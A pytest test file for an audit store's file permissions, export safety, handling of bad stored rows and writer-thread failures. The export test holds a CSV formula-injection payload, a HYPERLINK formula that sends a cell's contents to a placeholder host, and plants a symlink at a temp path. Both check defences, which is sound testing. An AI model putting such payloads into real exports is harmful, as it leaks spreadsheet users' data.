"""Issue 11, audit store side: file modes, exports made safely and neutralised against formula
injection, an export that never tracebacks on any stored row, timed-out suggestions never
committed afterwards, and fail-fast when the writer thread has died. Real SQLite files, real
threads, a real second connection holding the database's write lock.

Data here is synthetic.
"""

from __future__ import annotations

import asyncio
import os
import sqlite3
import stat
import threading
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from service_support import sample_row
from typer.testing import CliRunner

from service.store import AuditStore, StoreError
from service.store_db import outcomes, suggestions
from triage.history.loader import load_export
from triage.schema import Disposition, TriageRequest
from triage_cli.main import app


@pytest.fixture
def store(tmp_path: Path):
    s = AuditStore(f"sqlite:///{tmp_path / 'var' / 'audit.db'}")
    s.open()
    yield s
    s.close()


def _db(store: AuditStore) -> Path:
    return Path(store.engine.url.database or "")


# -- finding 5: modes ------------------------------------------------------------------------


def test_the_audit_file_and_its_wal_are_private(store: AuditStore) -> None:
    store.add_suggestions([sample_row()]).result(timeout=10)
    db = _db(store)
    for path in (db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
        assert path.exists(), path
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, (path, oct(mode))


def test_an_existing_world_readable_audit_file_is_tightened(tmp_path: Path) -> None:
    db = tmp_path / "old.db"
    sqlite3.connect(db).close()
    os.chmod(db, 0o644)
    s = AuditStore(f"sqlite:///{db}")
    s.engine.dispose()
    assert stat.S_IMODE(db.stat().st_mode) & 0o007 == 0


def _label(store: AuditStore, request: TriageRequest | None = None, raw: str | None = None,
           final: Disposition = Disposition.DEPLOY) -> str:
    r = sample_row(when=datetime(2026, 11, 20, 12, tzinfo=UTC), request=request)
    if raw is not None:  # a row stored before today's checks existed (or edited in the DB)
        r = type(r)(**{**r.as_params(), "request_json": raw})
    store.add_suggestions([r]).result(timeout=10)
    store.record_outcome(r.id, final, None, "desk-1").result(timeout=10)
    return r.id


def _export(store: AuditStore, out: Path) -> str:
    res = CliRunner().invoke(app, ["audit", "export", "--since", "2026-11-19", "--out", str(out),
                                   "--db-url", store.db_url])
    assert res.exit_code == 0, res.output
    return res.stdout


def test_exports_are_private_and_csv_formulas_are_neutralised(
    store: AuditStore, tmp_path: Path
) -> None:
    formula = TriageRequest(narrative='=HYPERLINK("http://x.example/?"&A1,"click") fell over',
                            request_id="+CAD-1")
    _label(store, formula)
    _label(store, TriageRequest(narrative="-ve for LOC; @home; fell on stairs"))
    _label(store, TriageRequest(narrative="plain narrative, fell, c/b"))
    shared = tmp_path / "shared"
    shared.mkdir()
    out = shared / "export.csv"
    # A planted link at the OLD predictable temp name must not be written through.
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched", encoding="utf-8")
    (shared / ".export.csv.tmp").symlink_to(victim)
    _export(store, out)
    assert victim.read_text(encoding="utf-8") == "untouched"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in shared.iterdir() if p.name.endswith(".tmp")] == [".export.csv.tmp"]
    text = out.read_text(encoding="utf-8")
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), line
    narratives = sorted(load_export(out, write_rejects=False).frame["narrative"].to_list())
    assert narratives[0].startswith("'-ve for LOC") and narratives[1].startswith("'=HYPERLINK")
    # Parquet keeps the text exactly (no spreadsheet runs it).
    pq = tmp_path / "export.parquet"
    _export(store, pq)
    assert stat.S_IMODE(pq.stat().st_mode) == 0o600
    assert "+CAD-1" in load_export(pq, write_rejects=False).frame["request_id"].to_list()


# -- finding 6: an export never tracebacks on a stored row -----------------------------------


def test_export_survives_every_kind_of_bad_stored_row(store: AuditStore, tmp_path: Path) -> None:
    good = _label(store, TriageRequest(narrative="SYNTHETIC: fell, c/b, talking"))
    bad = [
        _label(store, raw='{"narrative": "x", "received_at": "0001-01-01T00:00:00+14:00"}'),
        _label(store, raw='{"narrative": "x", "received_at": "9999-12-31T23:59:59-14:00"}'),
        _label(store, raw='{"narrative": "x", "received_at": "not a date"}'),
        _label(store, raw='{"narrative": "x", "age": "forty"}'),
        _label(store, raw='{"narrative": "lone \\ud800 surrogate"}'),
        _label(store, raw='["not", "an", "object"]'),
        _label(store, raw="{truncated"),
    ]
    for suffix in ("csv", "parquet"):
        out = tmp_path / f"e.{suffix}"
        stdout = _export(store, out)
        assert "Wrote 1 requests" in stdout
        assert "7 stored rows do not fit the export contract" in stdout
        for sid in bad:
            assert sid in stdout
        assert load_export(out, write_rejects=False).frame["request_id"].to_list() == [
            f"audit-{good}"]


# -- finding 9: a timed-out suggestion is never committed later; a dead writer fails fast ----


def _count(store: AuditStore, sid: str) -> int:
    with store.engine.connect() as conn:
        return int(conn.execute(
            sa.select(sa.func.count()).select_from(suggestions).where(suggestions.c.id == sid)
        ).scalar_one())


def test_a_suggestion_that_timed_out_is_never_committed_afterwards(store: AuditStore) -> None:
    # Another connection holds SQLite's write lock, so the writer's INSERT waits (busy_timeout).
    blocker = sqlite3.connect(_db(store), timeout=0)
    blocker.execute("BEGIN IMMEDIATE")
    late = sample_row()
    try:
        with pytest.raises(TimeoutError):
            asyncio.run(store.add_suggestions_committed([late], timeout=0.5))
        time.sleep(0.5)  # the writer is now inside the group, blocked on the lock
    finally:
        blocker.rollback()
        blocker.close()
    # The writer gets the lock, runs the INSERT, sees the write was abandoned: rolls back.
    after = sample_row()
    # One row stored now (None: not an earlier row returned for a retried request_id).
    assert asyncio.run(store.add_suggestions_committed([after], timeout=20)) == [None]
    assert _count(store, after.id) == 1
    assert _count(store, late.id) == 0
    assert store.writer_alive


def test_writes_queued_with_the_abandoned_one_are_still_committed(store: AuditStore) -> None:
    blocker = sqlite3.connect(_db(store), timeout=0)
    blocker.execute("BEGIN IMMEDIATE")
    late, kept = sample_row(), sample_row()

    async def both() -> list[dict[str, Any] | None]:
        waited = asyncio.ensure_future(store.add_suggestions_committed([kept], timeout=30))
        with pytest.raises(TimeoutError):
            await store.add_suggestions_committed([late], timeout=0.5)
        await asyncio.sleep(0.3)
        blocker.rollback()
        return await waited

    try:
        assert asyncio.run(both()) == [None]
    finally:
        blocker.close()
    assert (_count(store, kept.id), _count(store, late.id)) == (1, 0)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_a_dead_writer_fails_every_write_at_once(store: AuditStore) -> None:
    def fatal(conn: object) -> None:
        raise SystemExit("writer thread killed")  # not an Exception: the thread dies

    with pytest.raises(StoreError, match="writer has stopped"):
        store._submit(fatal).result(timeout=10)
    deadline = time.monotonic() + 5
    while store.writer_alive and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not store.writer_alive
    t0 = time.perf_counter()
    with pytest.raises(StoreError, match="writer has stopped"):
        asyncio.run(store.add_suggestions_committed([sample_row()], timeout=5))
    assert time.perf_counter() - t0 < 0.5
    with pytest.raises(StoreError):
        store.record_outcome("x", Disposition.DEPLOY, None, "desk-1")
    with store.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(outcomes)).scalar_one() == 0


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_writes_queued_when_the_writer_dies_fail_instead_of_hanging(store: AuditStore) -> None:
    gate = threading.Event()

    def fatal(conn: object) -> None:
        gate.wait(10)
        raise SystemExit("writer thread killed")

    first = store._submit(fatal)
    queued = store.add_suggestions([sample_row()])
    gate.set()
    with pytest.raises(StoreError, match="writer has stopped"):
        first.result(timeout=10)
    with pytest.raises(StoreError, match="writer has stopped"):
        queued.result(timeout=2)
